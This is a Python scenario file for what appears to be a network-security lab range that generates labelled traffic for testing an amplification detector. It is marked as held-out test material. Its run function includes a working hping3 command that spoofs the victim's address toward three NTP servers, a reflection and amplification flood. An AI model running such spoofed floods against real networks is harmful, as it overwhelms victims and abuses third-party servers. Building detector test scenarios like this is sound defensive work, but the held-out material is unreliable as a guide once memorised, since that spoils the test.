"""Three clocks outside send an inside host answers to control messages that it never asked for."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.transport.amplification_held_ntp import QUESTION


def run(net: Range) -> None:
    attacker, victim = net.outside("attacker"), net.inside("pc4")
    clocks = [net.outside(f"clock{number}") for number in (1, 2, 3)]
    for clock in clocks:
        servers.clock(clock)
    net.everyday()
    net.loop(net.inside("pc1"), f"ntpdig -t 1 {clocks[0].ip}", 1.5)
    net.loop(victim, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.2)
    net.quiet(4)
    question = attacker.folder / "question"
    question.write_bytes(QUESTION)
    with net.attack(
        "amplification",
        by=clocks,
        attackers=[],
        attacker_known=False,
        victims=[victim],
        others={"reflector": clocks, "claimed": [victim]},
        also=["udp-flood"],
        frames=f"udp and src port 123 and dst host {victim.ip}",
        responses=f"icmp and src host {victim.ip}",
    ):
        words = f"hping3 -q -2 --spoof {victim.ip} -s 27015 -k -p 123 -d {len(QUESTION)} -E {question}"
        started = [net.start(attacker, *words.split(), "-i", "u14000", "-c", "450", one.ip) for one in clocks]
        for process in started:
            process.wait(20)
        net.quiet(1)
    net.quiet(3)


SCENARIO = Scenario(
    name="amplification-held-victim",
    about="Three NTP servers outside send a person's computer what somebody asked them in his name.",
    detectors=("amplification",),
    tools={"hping3": "hping3", "ntpd": "ntpsec", "ntpdig": "ntpsec-ntpdig"},
    held_out=True,
    snap_octets=64,
    run=run,
)
